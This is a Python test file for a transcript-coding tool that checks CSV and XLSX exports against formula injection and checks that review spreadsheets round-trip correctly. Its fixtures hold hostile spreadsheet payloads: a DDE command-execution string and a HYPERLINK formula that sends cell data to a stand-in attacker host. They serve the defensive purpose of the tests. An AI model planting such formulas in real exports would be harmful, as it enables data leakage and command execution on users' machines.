"""No spreadsheet lccode writes holds a live formula built from transcript or metadata text (OWASP CSV injection),
and the review import reads the escaped cells back unchanged."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from lccode.export._common import csv_cell, formula_like, from_sheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_ID = "=cmd|' /C calc'!A0"
LINES = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "Klik hier")',
    "+31 6 1234 5678 is mijn nummer, bel maar.",
    "-- dat was het eigenlijk wel, zei ze toen.",
    "@SUM(1+1)*cmd|' /C calc'!A0 en meer.",
    "'=al een apostrof ervoor, en toch een zin.",
]
MANIFEST = f'''file,id,community,level,kind,date,language,roles
evil.txt,"{HOSTILE_ID}","=HYPERLINK(""http://evil.example"")",micro,interview,2026-03-12,nl,Henk=respondent
'''


@pytest.fixture(scope="module")
def hostile_ws(tmp_path_factory):
    """A coded workspace whose transcript id, community, speaker and sentences all start like formulas."""
    from lccode.workspace import Workspace
    from lccode.workspace.add import add_paths
    from tests.review.review_data import insert_predictions

    root = tmp_path_factory.mktemp("formula")
    corpus = root / "corpus"
    corpus.mkdir()
    body = "".join(f"Henk: {line}\n" if i % 2 else f"Interviewer: {line}\n" for i, line in enumerate(LINES))
    (corpus / "evil.txt").write_text(body, encoding="utf-8")
    (corpus / "manifest.csv").write_text(MANIFEST, encoding="utf-8")
    ws = Workspace.create(root / "ws")
    add_paths(ws, [corpus])
    segs = ws.segments()
    assert {s.text for s in segs} == set(LINES) and all(s.key.startswith(HOSTILE_ID) for s in segs)
    insert_predictions(ws, {s.text: {"sf_reciprocity": 0.9, "fm_probing": 0.48} for s in segs})
    yield ws
    ws.close()


def test_the_escape_is_exactly_undone():
    for text in ["=1+1", "+1", "-", "@x", "\t=x", "\r=x", "'=x", "''-x", "'hello", "hello", "", "a=b", "'"]:
        cell = csv_cell(text)
        assert cell[:1] not in TRIGGERS, cell
        assert from_sheet(cell) == text
        assert (cell != text) == formula_like(text)
    assert csv_cell(0.5) == 0.5 and csv_cell(None) is None  # numbers stay numbers


def _csv_cells(path):
    text = path.read_text(encoding="utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _assert_csv_safe(cells):
    live = [c for c in cells if c[:1] in TRIGGERS]
    assert live == []
    escaped = [c for c in cells if c.startswith("'") and formula_like(c)]
    assert escaped  # the hostile text is there, as text
    return escaped


def test_export_csv_has_no_live_formula(hostile_ws, tmp_path):
    from lccode.export.tables import write_csv

    paths = write_csv(hostile_ws, tmp_path / "csv")
    cells = [c for p in paths for c in _csv_cells(p)]
    escaped = _assert_csv_safe(cells)
    assert "'" + LINES[0] in escaped and "'" + HOSTILE_ID in {c.split("#")[0] for c in escaped}
    matrix_header = next(csv.reader(io.StringIO((tmp_path / "csv" / "matrix.csv").read_text(encoding="utf-8-sig"))))
    assert "'=HYPERLINK(\"http://evil.example\")" in matrix_header  # a community name in the header row
    # a Dutch Excel splits on ';': every text cell is quoted, so no cell can begin mid-field
    raw = (tmp_path / "csv" / "excerpts.csv").read_text(encoding="utf-8-sig")
    assert re.search(r'(^|,)"\'=HYPERLINK', raw, re.M)


def _xlsx_check(path) -> int:
    """No formula anywhere in the workbook; every formula-like text cell is text with the quote prefix."""
    from openpyxl import load_workbook

    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), name
    wb = load_workbook(path)
    n = 0
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    n += 1
    return n


def test_export_xlsx_has_no_live_formula_and_keeps_the_text(hostile_ws, tmp_path):
    from openpyxl import load_workbook

    from lccode.export.tables import write_xlsx

    path = write_xlsx(hostile_ws, tmp_path / "out.xlsx")
    assert _xlsx_check(path) >= len(LINES)
    wb = load_workbook(path)
    texts = {c.value for row in wb.worksheets[0].iter_rows() for c in row}
    assert set(LINES) <= texts  # shown as written, no apostrophe added in XLSX
    headers = {c.value for sheet in wb.worksheets for c in sheet[1]}
    assert '=HYPERLINK("http://evil.example")' in headers


def test_review_csv_round_trip(hostile_ws, tmp_path):
    from lccode.review.sheet_import import import_sheet
    from lccode.review.sheets import export_queue

    path = tmp_path / "queue.csv"
    export_queue(hostile_ws, path, analyst="Anna")
    _assert_csv_safe(_csv_cells(path))
    text = path.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header = rows[0]
    for row in rows[1:]:
        assert row[header.index("segment_id")].startswith("'" + HOSTILE_ID)
        row[header.index("decision")] = "coded"
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)  # as a spreadsheet saves it: the apostrophes stay
    path.write_text(buf.getvalue(), encoding="utf-8-sig")
    out = import_sheet(hostile_ws, path)
    assert out["imported"] == len(LINES)
    keys = {d.segment_key for d in hostile_ws.decisions() if d.source == "sheet"}
    assert keys == {s.key for s in hostile_ws.segments()}


def test_review_xlsx_round_trip(hostile_ws, tmp_path):
    from openpyxl import load_workbook

    from lccode.review.sheet_import import import_sheet
    from lccode.review.sheets import COLUMNS, export_queue

    path = tmp_path / "queue.xlsx"
    export_queue(hostile_ws, path, analyst="Bram")
    assert _xlsx_check(path) >= 2 * len(LINES)  # ids and texts
    wb = load_workbook(path)
    sheet = wb["review"]
    for i in range(2, sheet.max_row + 1):
        sheet.cell(row=i, column=COLUMNS.index("decision") + 1, value="coded")
    wb.save(path)
    out = import_sheet(hostile_ws, path)
    assert out["imported"] == len(LINES)
    texts = {d.segment_text for d in hostile_ws.decisions(analyst="Bram")}
    assert texts == set(LINES)
